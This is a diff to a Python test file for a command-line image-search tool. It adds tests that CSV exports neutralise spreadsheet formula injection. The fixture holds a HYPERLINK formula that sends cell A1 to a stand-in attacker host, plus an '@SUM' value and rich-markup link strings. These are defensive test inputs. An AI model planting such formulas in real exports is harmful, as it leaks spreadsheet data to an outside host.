@@ -22,8 +22,15 @@ from vasrch.cli.output import print_table
 from vasrch.cli.progress_bar import sink_for
 from vasrch.cli.train import quality_summary
 
-# Titles and links a shop might really have, which rich would read as markup.
-HOSTILE = ["Shorts [/sale]", "[link=https://evil.example]Free shoes[/link]", "[bold red]LOUD[/]"]
+# Titles and links a shop might really have, which rich would read as markup, or a
+# spreadsheet as a formula.
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Sale")'
+HOSTILE = [
+    "Shorts [/sale]",
+    "[link=https://evil.example]Free shoes[/link]",
+    "[bold red]LOUD[/]",
+    FORMULA,
+]
 BROKEN = "hat/[red]broken[link=x].jpg"
 
 
@@ -161,7 +168,7 @@ def shop(tmp_path_factory, demo_catalog):
             "image": image,
             "category": image.split("/")[0],
             "title": HOSTILE[i % len(HOSTILE)],
-            "url": f"[link=https://evil.example]{i}[/link]",
+            "url": f"[link=https://evil.example]{i}[/link]" if i % 3 else f"@SUM({i})",
         }
         for i, image in enumerate(images)
     ]
@@ -207,7 +214,9 @@ def test_query_table_names_each_query_once_and_keeps_ids_whole_at_80_columns(sho
     assert table.returncode == 0, table.stderr
     same = vasrch("query", *queries, "--config", str(config), "--format", "table", "--top-n", "3")
     assert same.returncode == 0, same.stderr
-    csv = vasrch("query", *queries, "-c", str(config), "--format", "csv", "--top-n", "3")
+    csv = vasrch(
+        "query", *queries, "-c", str(config), "--format", "csv", "--top-n", "3", "--raw-csv"
+    )
     answers = pd.read_csv(io.StringIO(csv.stdout))
     lines = table.stdout.splitlines()
     assert table_width(table.stdout) <= 80, table.stdout
@@ -219,6 +228,31 @@ def test_query_table_names_each_query_once_and_keeps_ids_whole_at_80_columns(sho
     for title in answers["title"]:
         assert title in same.stdout
     assert "[link=https://evil.example]" in same.stdout and "MarkupError" not in same.stderr
+
+
+def formula_cells(cells: pd.DataFrame) -> pd.DataFrame:
+    """Where a text cell would start a spreadsheet formula (numbers, negative ones too, are
+    not text)."""
+    text = cells.apply(lambda column: pd.to_numeric(column, errors="coerce").isna())
+    return text & cells.apply(lambda column: column.str.match(r"[=+\-@\t\r]"))
+
+
+def test_csv_exports_defuse_formulas_unless_raw(shop, demo_catalog):
+    config, _, _ = shop
+    queries = [str(p) for p in sorted(demo_catalog.glob("*/*"))[:3]]
+    commands = [
+        ("query", *queries, "-c", str(config), "--format", "csv", "--top-n", "12"),
+        ("duplicates", str(config), "--threshold", "0.01", "--format", "csv"),
+    ]
+    for command in commands:
+        safe, raw = vasrch(*command), vasrch(*command, "--raw-csv")
+        assert safe.returncode == raw.returncode == 0, safe.stderr + raw.stderr
+        raw_cells = pd.read_csv(io.StringIO(raw.stdout), dtype=str, keep_default_na=False)
+        safe_cells = pd.read_csv(io.StringIO(safe.stdout), dtype=str, keep_default_na=False)
+        starts = formula_cells(raw_cells)
+        assert starts.any().any(), raw.stdout  # the titles and links made it into the CSV
+        pd.testing.assert_frame_equal(safe_cells, raw_cells.where(~starts, "'" + raw_cells))
+        assert not formula_cells(safe_cells).any().any()
 
 
 def test_runs_list_shows_whole_run_ids_at_80_columns(shop):
